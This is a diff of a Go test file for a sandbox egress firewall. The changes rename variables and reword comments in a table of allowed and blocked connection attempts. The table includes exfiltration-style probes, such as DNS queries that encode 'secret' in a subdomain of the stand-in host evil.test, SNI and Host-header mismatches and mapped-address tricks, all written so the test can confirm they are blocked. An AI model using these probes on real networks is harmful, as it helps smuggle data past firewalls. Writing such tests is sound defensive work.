@@ -20,26 +20,26 @@ import (
 	"github.com/go-vercel/sandbox/sandboxtest"
 )
 
-// outside has servers beyond the firewall that record their visitors.
+// outside has servers outside the sandboxes that record their visitors.
 type outside struct {
 	plain, secure *httptest.Server
 	banner, udp   int // ports of a server that speaks first, and of an echo
 
-	mu   sync.Mutex
-	came []string // paths, "tcp" and "udp"
+	mu       sync.Mutex
+	visitors []string // the path, "tcp" or "udp" of each visit
 }
 
 func (o *outside) note(what string) {
 	o.mu.Lock()
 	defer o.mu.Unlock()
-	o.came = append(o.came, what)
+	o.visitors = append(o.visitors, what)
 }
 
 // visits counts the visits of a path or protocol.
 func (o *outside) visits(what string) (n int) {
 	o.mu.Lock()
 	defer o.mu.Unlock()
-	for _, c := range o.came {
+	for _, c := range o.visitors {
 		if c == what {
 			n++
 		}
@@ -91,8 +91,8 @@ func newOutside(t *testing.T) *outside {
 	return o
 }
 
-// prober tries the connections in its argument, and prints the result of each. It knows
-// nothing of the firewall, only how many seconds to wait for each.
+// prober tries the connections in its argument, and prints the result of each. It waits a
+// given number of seconds for each.
 const prober = `
 import json, socket, ssl, struct, sys
 def dns(name, kind=1, server="10.0.2.3", port=53, tcp=False, count=1):
@@ -160,7 +160,7 @@ func TestPolicyTable(t *testing.T) {
 	const host, api, evil = "10.0.2.2", "api.example.com", "evil.test"
 	plainPort, securePort := port(t, o.plain.URL), port(t, o.secure.URL)
 	row := func(want string, try ...any) attempt { return attempt{try, want} }
-	outs := func(want string) []attempt { // every way out by address
+	byAddress := func(want string) []attempt { // one attempt for each way to an outside address
 		return []attempt{
 			row(want, "tls", host, securePort, evil, evil, "/"), row(want, "tls", host, securePort, "", host, "/"), row(want, "http", host, plainPort, host, "/"),
 			row(want, "tcp", host, o.banner), row(want, "udp", host, o.udp), row(want, "tcp", "host.internal", o.banner),
@@ -170,7 +170,7 @@ func TestPolicyTable(t *testing.T) {
 	tables := []struct {
 		policy any
 		rows   []attempt
-		night  bool
+		slow   bool
 	}{
 		{obj{"mode": "allow-all"}, []attempt{
 			row(resolves, "resolve", api), row("200 plain "+api, "tls", api, 443, api, api, "/"), row("200 plain "+api, "http", api, 80, api, "/"),
@@ -178,16 +178,16 @@ func TestPolicyTable(t *testing.T) {
 			row("banner", "tcp", host, o.banner), row("x", "udp", host, o.udp), row("200 secure x", "tls", host, securePort, evil, "x", "/"),
 			row("200 plain x", "http", host, plainPort, "x", "/"), row("banner", "tcp", "host.internal", o.banner),
 		}, false},
-		{obj{"mode": "deny-all"}, append(outs(blocked), row(unknown, "resolve", api), row("code 3, 0 records", "dns", api)), false},
-		{obj{}, append(outs(blocked), row(unknown, "resolve", api), row("code 3, 0 records", "dns", api)), true},
-		{obj{"allow": obj{}}, append(outs(blocked), row(unknown, "resolve", api)), true},
-		{obj{"subnets": obj{"deny": []string{"192.0.2.0/24"}}}, append(outs(blocked), row(unknown, "resolve", api)), true},
-		{obj{"allow": []string{api, "raw.example.com"}}, append(outs(blocked),
+		{obj{"mode": "deny-all"}, append(byAddress(blocked), row(unknown, "resolve", api), row("code 3, 0 records", "dns", api)), false},
+		{obj{}, append(byAddress(blocked), row(unknown, "resolve", api), row("code 3, 0 records", "dns", api)), true},
+		{obj{"allow": obj{}}, append(byAddress(blocked), row(unknown, "resolve", api)), true},
+		{obj{"subnets": obj{"deny": []string{"192.0.2.0/24"}}}, append(byAddress(blocked), row(unknown, "resolve", api)), true},
+		{obj{"allow": []string{api, "raw.example.com"}}, append(byAddress(blocked),
 			// Names that resolve, and those that don't.
 			row(resolves, "resolve", api), row(resolves, "resolve", "API.Example.COM"), row(resolves, "resolve", "api.example.com."),
 			row(unknown, "resolve", "www.example.com"), row(unknown, "resolve", "example.com"), row(unknown, "resolve", "xapi.example.com"),
 			row(unknown, "resolve", "api.example.com.evil.test"), row(unknown, "resolve", evil), row(resolves, "resolve", "host.internal"),
-			// Queries that carry data out.
+			// Queries whose names carry data to the outside.
 			row("code 3, 0 records", "dns", "c2VjcmV0.evil.test", 16), row("code 3, 0 records", "dns", "c2VjcmV0.api.example.com", 1),
 			row("code 0, 1 records", "dns", api, 1), row("code 0, 0 records", "dns", api, 28), row("code 2, 0 records", "dns", api, 1, "10.0.2.3", 53, false, 2),
 			row(blocked, "dns", evil, 1, host, o.udp), row(blocked, "dns", evil, 1, "10.0.2.3", 53, true), row(blocked, "dns", evil, 1, "192.0.2.53"),
@@ -197,14 +197,14 @@ func TestPolicyTable(t *testing.T) {
 			row(blocked, "tls", api, 443, evil, evil, "/"), row(blocked, "tls", api, 443, evil, api, "/"), row(blocked, "tls", api, 443, "", api, "/"),
 			row(blocked, "tls", api, 443, "www.example.com", api, "/"), row(blocked, "tls", api, 443, "api.example.com.evil.test", api, "/"),
 			row("200 plain "+api, "tls", host, securePort, api, api, "/"), // to the server of that name, not to the address
-			// The HTTP host compared with the TLS server name.
+			// The host of the HTTP request must be the TLS server name.
 			row("421 *", "tls", api, 443, api, evil, "/"), row("421 *", "tls", api, 443, api, "www.example.com", "/"),
 			// Traffic without a server name.
 			row(blocked, "http", api, 80, api, "/"), row(blocked, "http", api, 8080, api, "/"), row(blocked, "http", api, 443, api, "/"),
 			row(blocked, "tcp", "192.0.2.1", 22), row(blocked, "udp", api, 443), row(blocked, "tcp", "2001:db8::1", 443), row(blocked, "tcp", "::ffff:10.0.2.2", o.banner),
 			row("200 secure raw.example.com", "tls", "raw.example.com", 443, "raw.example.com", "raw.example.com", "/"),
 		), false},
-		{obj{"allow": []string{"*.example.com"}}, append(outs(blocked),
+		{obj{"allow": []string{"*.example.com"}}, append(byAddress(blocked),
 			row(resolves, "resolve", api), row(resolves, "resolve", "a.b.example.com"), row(unknown, "resolve", "example.com"),
 			row(unknown, "resolve", "notexample.com"), row(unknown, "resolve", "api.example.com.evil.test"),
 			row("200 plain a.b.example.com", "tls", api, 443, "a.b.example.com", "a.b.example.com", "/"),
@@ -223,10 +223,10 @@ func TestPolicyTable(t *testing.T) {
 			row("banner", "tcp", host, o.banner), row("200 plain x", "http", host, plainPort, "x", "/"), row("x", "udp", host, o.udp),
 			row("200 secure x", "tls", host, securePort, "", "x", "/"), row(unknown, "resolve", api), row(blocked, "tcp", "10.0.2.4", o.banner),
 		}, false},
-		{obj{"subnets": obj{"allow": []string{"10.0.0.0/8"}}}, []attempt{ // which has the resolver's address
+		{obj{"subnets": obj{"allow": []string{"10.0.0.0/8"}}}, []attempt{ // this range contains the resolver's address
 			row("banner", "tcp", host, o.banner), row(blocked, "dns", evil, 1, "10.0.2.3", 53, true), row("code 3, 0 records", "dns", evil),
 		}, true},
-		{obj{"subnets": obj{"allow": []string{"10.0.0.0/8"}, "deny": []string{"10.0.2.2/32"}}}, append(outs(blocked), row(unknown, "resolve", api)), false},
+		{obj{"subnets": obj{"allow": []string{"10.0.0.0/8"}, "deny": []string{"10.0.2.2/32"}}}, append(byAddress(blocked), row(unknown, "resolve", api)), false},
 		{obj{"allow": []string{api}, "subnets": obj{"deny": []string{"0.0.0.0/0"}}}, []attempt{
 			row(resolves, "resolve", api), row(blocked, "tls", api, 443, api, api, "/"), row(blocked, "tls", host, securePort, api, api, "/"),
 		}, true},
@@ -242,7 +242,7 @@ func TestPolicyTable(t *testing.T) {
 		{obj{"mode": "allow-all"}, []attempt{row("200 plain "+evil, "tls", evil, 443, evil, evil, "/"), row("banner", "tcp", host, o.banner)}, true},
 	}
 	for _, x := range tables {
-		if x.night && !needs.Slow() {
+		if x.slow && !needs.Slow() {
 			continue
 		}
 		policy, err := json.Marshal(x.policy)
@@ -271,7 +271,7 @@ func TestPolicyTable(t *testing.T) {
 			begin, open := strings.CutSuffix(r.want, "*")
 			assert.True(t, got[i] == r.want || open && strings.HasPrefix(got[i], begin), "%s: %v: got %q, want %q", policy, r.try, got[i], r.want)
 			if path := fmt.Sprintf("/%d", total+i); !strings.HasPrefix(r.want, "200") {
-				assert.Zero(t, o.visits(path), "%s: %v leaks", policy, r.try)
+				assert.Zero(t, o.visits(path), "%s: %v has reached a server", policy, r.try)
 			}
 			switch r.want {
 			case "banner":
